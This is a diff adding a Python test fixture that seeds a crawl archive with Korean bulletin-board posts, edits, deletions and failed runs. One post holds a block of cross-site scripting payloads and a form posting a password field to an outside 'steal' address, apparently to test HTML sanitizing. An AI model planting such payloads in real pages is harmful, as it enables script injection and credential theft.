@@ -1,0 +1,198 @@
+"""A small archive for the web tests, written through ``archive.store.ingest`` as a crawl would.
+
+Two boards. ``press`` holds an edited post (title, body, author, category, posted time and
+attachments change over three versions), a notice, a post carrying script payloads, a deleted
+post, a secret post and a few more; ``notice`` holds two posts. Runs over four nights, one
+suspect and one failed.
+"""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime, timedelta
+
+from sqlalchemy import Engine
+from sqlalchemy.orm import Session
+
+from archive import items as it
+from archive.config import board_from_values
+from archive.models import CrawlRun, RunHealth, RunMode, RunStatus
+from archive.store import ensure_board, ingest
+
+T0 = datetime(2026, 11, 20, 17, 30, tzinfo=UTC)  # 02:30 KST on 21 November
+NIGHT = timedelta(days=1)
+PRESS = board_from_values("press", {"url": "http://127.0.0.1:9/bbs/board.php?bo_table=press"})
+NOTICE = board_from_values("notice", {"url": "http://127.0.0.1:9/bbs/board.php?bo_table=notice"})
+
+EDITED_TITLES = (
+    "2026년 상반기 신입사원 채용 공고",
+    "2026년 하반기 신입사원 채용 공고 (마감 연장)",
+    "2026년 하반기 신입사원 채용 공고 (마감 연장)",
+)
+EDITED_BODIES = (
+    "하늘항공이 2026년 신입사원을 모집합니다.\n\n접수 기간은 11월 30일까지입니다.\n"
+    "서류 전형과 면접을 거쳐 최종 합격자를 발표합니다.",
+    "하늘항공이 2026년 신입사원을 모집합니다.\n\n접수 기간은 12월 7일까지로 연장되었습니다.\n"
+    "서류 전형과 면접을 거쳐 최종 합격자를 발표합니다.",
+    "하늘항공이 2026년 신입사원을 모집합니다.\n\n접수 기간은 12월 7일까지로 연장되었습니다.\n"
+    "서류 전형과 면접을 거쳐 최종 합격자를 발표합니다.\n문의: 인사팀 채용 담당",
+)
+PAYLOAD_HTML = (
+    "<p>행사 안내문입니다.</p>"
+    "<script>document.title='pwned';window.__pwned='script'</script>"
+    '<img src="http://203.0.113.9/poster.png" alt="행사 포스터" '
+    "onerror=\"window.__pwned='onerror';document.title='pwned'\">"
+    '<svg onload="window.__pwned=\'svg\'"><circle r="4"/></svg>'
+    "<a href=\"javascript:window.__pwned='href'\">자세히</a>"
+    '<iframe src="http://203.0.113.9/frame"></iframe>'
+    '<link rel="stylesheet" href="http://203.0.113.9/evil.css">'
+    '<p style="background:url(http://203.0.113.9/bg.png)">참가 신청은 홈페이지에서.</p>'
+    '<object data="http://203.0.113.9/x.swf"></object>'
+    '<form action="http://203.0.113.9/steal"><input name="pw"></form>'
+    "<details open ontoggle=\"window.__pwned='details'\"><summary>더보기</summary>내용</details>"
+)
+
+
+def _url(board: str, post_id: str) -> str:
+    return f"http://127.0.0.1:9/bbs/board.php?bo_table={board}&wr_id={post_id}"
+
+
+def post(board: str, post_id: str, title: str, body: str, **kw: object) -> it.Post:
+    values: dict[str, object] = {
+        "author": "관리자",
+        "posted_at": datetime(2026, 11, 17, 5, 14, tzinfo=UTC),
+        "body_html": "".join(f"<p>{line}</p>" for line in body.split("\n") if line),
+        "views": 10,
+        "comment_count": 0,
+        "notice": False,
+    }
+    values.update(kw)
+    return it.Post(
+        post_id=post_id,
+        url=_url(board, post_id),
+        title=title,
+        body_text=body,
+        **values,  # type: ignore[arg-type]
+    )
+
+
+def edited(n: int) -> it.Post:
+    """Version ``n`` (0-based) of press post 101."""
+    attachments = (
+        (it.Attachment("채용공고.pdf", "1.2M"),),
+        (it.Attachment("채용공고.pdf", "1.4M"), it.Attachment("지원서 양식.hwp", "48K")),
+        (it.Attachment("채용공고.pdf", "1.4M"), it.Attachment("지원서 양식.hwp", "48K")),
+    )[n]
+    return post(
+        "press",
+        "101",
+        EDITED_TITLES[n],
+        EDITED_BODIES[n],
+        author=("인사팀", "인사팀", "인사팀 채용담당")[n],
+        category=("채용", "채용", "채용/인턴")[n],
+        posted_at=datetime(2026, 11, 17, 5, 14 + (n == 2), tzinfo=UTC),
+        attachments=attachments,
+        views=100 + n * 50,
+        comment_count=n,
+    )
+
+
+def _run(
+    engine: Engine,
+    board_cfg: object,
+    at: datetime,
+    outcomes: list[it.ViewOutcome],
+    *,
+    status: RunStatus = RunStatus.SUCCEEDED,
+    health: RunHealth = RunHealth.OK,
+    notes: list[str] | None = None,
+    requests: int = 12,
+    errors: int = 0,
+) -> None:
+    with Session(engine) as s, s.begin():
+        board_id = ensure_board(s, board_cfg, at)  # type: ignore[arg-type]
+        run = CrawlRun(
+            board_id=board_id,
+            started_at=at,
+            status=RunStatus.RUNNING,
+            mode=RunMode.INCREMENTAL if at > T0 else RunMode.FULL,
+        )
+        s.add(run)
+        s.flush()
+        counts = ingest(s, board_id, run.id, outcomes, at + timedelta(minutes=1))
+        run.status = status
+        run.finished_at = at + timedelta(minutes=3, seconds=12)
+        run.requests, run.pages, run.errors = requests, requests, errors
+        run.posts_seen, run.new_posts, run.new_versions = (
+            counts.posts_seen,
+            counts.new_posts,
+            counts.new_versions,
+        )
+        run.edited_posts, run.deleted_posts = counts.edited, counts.deleted
+        run.restored_posts = counts.restored
+        run.health, run.health_notes = health, notes
+
+
+def seed_archive(engine: Engine) -> None:
+    others = [
+        post(
+            "press",
+            str(i),
+            f"보도자료 {i}호: 지역 기업 수출 상담회 개최",
+            f"수출 상담회 {i}회차 결과",
+        )
+        for i in range(90, 96)
+    ]
+    first = [
+        edited(0),
+        post(
+            "press",
+            "102",
+            "개인정보 처리방침 개정 안내",
+            "개인정보 처리방침이 개정됩니다.",
+            notice=True,
+        ),
+        post(
+            "press",
+            "103",
+            "연말 행사 안내",
+            "행사 안내문입니다.\n참가 신청은 홈페이지에서.",
+            body_html=PAYLOAD_HTML,
+        ),
+        post("press", "104", "잘못 올린 공지", "곧 지워질 글입니다."),
+        it.SecretPost("105", _url("press", "105"), title="비밀 문의", author="홍길동"),
+        *others,
+    ]
+    _run(engine, PRESS, T0, first, requests=25)
+    _run(
+        engine,
+        NOTICE,
+        T0 + timedelta(minutes=5),
+        [
+            post("notice", "7", "시스템 점검 안내", "채용 사이트 점검으로 접속이 제한됩니다."),
+            post("notice", "8", "Holiday schedule", "The office is closed on 25 December."),
+        ],
+        requests=4,
+    )
+    _run(engine, PRESS, T0 + NIGHT, [edited(1), it.PostNotFound("104", _url("press", "104"))])
+    _run(
+        engine,
+        PRESS,
+        T0 + 2 * NIGHT,
+        [],
+        status=RunStatus.FAILED,
+        health=RunHealth.FAILED,
+        notes=["list page 1 failed: HTTP 503"],
+        requests=1,
+        errors=1,
+    )
+    _run(
+        engine,
+        PRESS,
+        T0 + 3 * NIGHT,
+        [
+            edited(2),
+            post("press", "106", "신규 협력사 모집", "협력사를 모집합니다. 채용과는 무관합니다."),
+        ],
+        health=RunHealth.SUSPECT,
+        notes=["page 1 had 3 rows, usually 15"],
+    )
